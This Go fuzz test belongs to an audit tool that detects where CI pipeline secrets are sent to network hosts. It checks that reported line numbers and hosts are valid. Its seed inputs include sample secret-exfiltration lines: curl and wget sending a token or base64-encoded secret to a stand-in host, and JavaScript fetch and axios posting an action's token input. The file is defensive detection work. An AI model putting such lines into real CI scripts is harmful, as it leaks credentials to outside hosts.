package audit

import (
	"strings"
	"testing"
)

// FuzzCISecretSends: no script stops the reading of the requests a CI
// secret reaches (shell lines joined by continuations, variables set
// from it, quoted words, URLs in variables; JavaScript inputs, variables
// and calls), every send points at a line of its script and names only
// hosts it found.
func FuzzCISecretSends(f *testing.F) {
	for _, s := range []string{
		"curl -H \"Authorization: Bearer $T\" https://api.github.com/x \\\n  -d \"k=$T\"\n",
		"p=$(printf '%s' \"$T\" | base64)\nU=https://h.example/x\ncurl -d \"$p\" \"$U\"\n",
		"echo \"$T\" | curl --data-binary @- https://h.example\n", "wget \"https://h.example/?t=${T}\"", "t=${#T}\ncurl -d $t x", "curl '\\", "${", "\\",
		"const t = core.getInput('token');\nfetch('https://h.example', {body: t});\n", "const t = process.env.INPUT_TOKEN\naxios.post(u, {t})\n",
		strings.Repeat("a=$T\n", 200) + "curl -d $a https://h.example",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		n := strings.Count(src, "\n") + 1
		check := func(sends []ciSend) {
			for _, s := range sends {
				if s.line < 1 || s.line > n {
					t.Fatalf("send at line %d of %d", s.line, n)
				}
				for _, h := range s.hosts {
					if h == "" || strings.ContainsAny(h, "${}") {
						t.Fatalf("host %q", h)
					}
				}
			}
		}
		check(ciShellSends("a.sh", src, 1, map[string]bool{"T": true}))
		check(ciJSSends("a.js", src, "token"))
		ciForeignSend(nil, ciShellSends("a.sh", src, 1, map[string]bool{"T": true}))
	})
}
